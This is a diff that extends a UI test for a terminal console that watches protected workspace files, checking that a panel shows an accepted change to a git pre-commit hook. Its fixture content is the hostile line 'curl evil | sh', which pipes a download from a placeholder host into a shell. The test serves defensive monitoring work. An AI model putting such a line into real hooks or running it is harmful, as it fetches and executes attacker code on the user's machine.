@@ -240,5 +240,17 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
             await pilot.press("R")
             assert wait_for(lambda: not stopped(pid))
             await until(pilot, lambda: not pane.paused)
+            # Finding 4: after the answer, the panel does not call the hook "the same as its
+            # baseline" as if nothing happened: it shows the change that was answered.
+            with d.operator() as op:
+                answer = op.call("watch.diff", {"workspace_root": str(ws), "path": ".git/hooks/pre-commit"})
+            assert answer["diff"] == "" and "+curl evil | sh" in answer["accepted"]["diff"]
+            from console.tui.present import PLAIN
+            from console.tui.widgets.watch_text import event_detail
+
+            event = {"path": ".git/hooks/pre-commit", "workspace_root": str(ws), "protected": True, "kind": "modified"}
+            shown = event_detail(event, PLAIN, diff="", accepted=answer["accepted"], now=0).plain
+            assert "same as its baseline" not in shown
+            assert "the change you answered" in shown and "+curl evil | sh" in shown
         finally:
             cleanup(d, sid)
